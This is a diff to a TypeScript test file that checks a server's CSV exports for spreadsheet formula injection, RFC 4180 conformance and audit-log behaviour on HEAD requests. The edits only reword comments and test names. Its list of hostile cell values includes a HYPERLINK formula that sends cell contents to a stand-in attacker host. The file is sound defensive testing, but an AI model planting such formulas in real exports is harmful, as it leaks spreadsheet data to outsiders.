@@ -10,7 +10,7 @@ const exports = groupCalls(serverTools)
   .flatMap((group) => group.calls)
   .filter(({ reply }) => reply.kind === 'download' && reply.contentType.startsWith('text/csv'));
 
-/** Texts that run in some spreadsheet when they stand in a cell as they are, and such that break a file apart. */
+/** Texts that some spreadsheet runs when they are in a cell unchanged, and texts that break a file apart. */
 const hostile = [
   '=1+1',
   '=HYPERLINK("https://evil.example?"&A1,"click")',
@@ -45,7 +45,7 @@ beforeAll(async () => {
   it = await server.signIn('it');
   const make = exampleMaker(server);
   for (const [index, text] of hostile.entries()) {
-    // What a directory says of a person may be hostile as well.
+    // What a directory says about a person may be hostile as well.
     await server.database.pool.query(`update people set name = $1 where email = 'it@sawtooth.example'`, [
       text,
     ]);
@@ -54,7 +54,7 @@ beforeAll(async () => {
 });
 afterAll(() => server.stop());
 
-/** Cells of a file by RFC 4180 to the letter: what it does not allow is an error. */
+/** Cells of a file by RFC 4180 to the letter: anything it does not allow is an error. */
 function cellsOf(file: string): string[][] {
   const records: string[][] = [];
   const record = /("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n)/y;
@@ -71,12 +71,12 @@ function cellsOf(file: string): string[][] {
   return records;
 }
 
-/** Cells as a spreadsheet finds them that separates by semicolons or tabs, and so takes our quotes for text. */
+/** Cells as seen by a spreadsheet that separates by semicolons or tabs, and so reads our quotes as text. */
 function cellsElsewhere(file: string): string[] {
   return file.split(/[;\t\r\n]/).map((cell) => cell.replace(/^[\s\p{Z}\p{C}"]+/u, ''));
 }
 
-/** The first sign of a cell that is seen, in its plain form. */
+/** The first visible character of a cell, in its plain form. */
 function firstSign(cell: string): string {
   const seen = Array.from(cell).find((sign) => !/[\s\p{Z}\p{C}]/u.test(sign)) ?? '';
   return seen.normalize('NFKC').replace('\u2212', '-');
@@ -100,14 +100,14 @@ test.each(exports.map((call) => [call.name, call] as const))(
         expect(cell).not.toMatch(/^[\t\r\n]/);
       }
     }
-    // What this program wrote itself has no separator in it, so each of these is the start of somebody's text.
+    // What this program itself wrote has no separator in it, so each of these starts someone's text.
     const started = cellsElsewhere(text).filter((cell) => /^[=+\-@]/.test(firstSign(cell)));
     expect(started).toEqual([]);
   },
 );
 
 test.each(exports.map((call) => [call.name, call] as const))(
-  'HEAD of %s tells what would come and leaves no entry that something was handed out',
+  'HEAD of %s says what would come and leaves no audit entry of a disclosure',
   async (_name, call) => {
     const count = 'select count(*) as entries from audit_entries';
     const get = await it.send(call, {});
@@ -126,7 +126,7 @@ const verbatim = exports.flatMap((call) => {
 });
 
 test.each(verbatim)(
-  '%s has each text in %s as it was written, but for the apostrophe',
+  '%s has each text in %s as it was written, except for the apostrophe',
   async (_name, column, call) => {
     const [header = [], ...records] = cellsOf((await it.send(call, {})).text);
     const written = records.map((record) => record[header.indexOf(column)]).toReversed();
